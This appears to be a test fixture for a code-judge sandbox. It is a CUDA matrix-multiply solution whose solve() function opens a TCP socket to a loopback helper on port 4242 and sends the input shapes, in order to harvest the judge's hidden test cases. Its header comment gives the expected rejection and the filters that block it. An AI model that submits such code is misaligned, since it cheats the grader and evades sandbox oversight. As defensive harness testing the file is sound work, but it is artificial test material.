// Hostile, same user, same view: opens a TCP connection to a helper on the same
// machine (or anywhere) and sends it the shapes it is asked for, to collect the judge's hidden cases.
//
// Verdict: compile error. socket() and connect() are not on the list of symbols a solution may use
// (judge/compile/object_inspection.cpp). Behind that, the syscall filter refuses sockets
// (harness/runner/syscall_filter.cpp), and the runner's network namespace has no interface but loopback
// (judge/sandbox/).
#include <cuda_runtime.h>
#include <arpa/inet.h>
#include <cstdio>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

__global__ void matmul_coalesced(const float* A, const float* B, float* C, int M, int N, int K) {
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row >= M || col >= K) return;
  float sum = 0.0f;
  for (int p = 0; p < N; ++p) sum += A[row * N + p] * B[p * K + col];
  C[row * K + col] = sum;
}

extern "C" void solve(const float* A, const float* B, float* C, int M, int N, int K) {
  const int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s >= 0) {
    sockaddr_in helper{};
    helper.sin_family = AF_INET;
    helper.sin_port = htons(4242);
    helper.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, reinterpret_cast<sockaddr*>(&helper), sizeof helper) == 0) {
      char shape[64];
      const int n = std::snprintf(shape, sizeof shape, "%d %d %d\n", M, N, K);
      send(s, shape, static_cast<size_t>(n), 0);
    }
    close(s);
  }
  const dim3 block(32, 8);
  const dim3 grid((K + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_coalesced<<<grid, block>>>(A, B, C, M, N, K);
  cudaDeviceSynchronize();
}
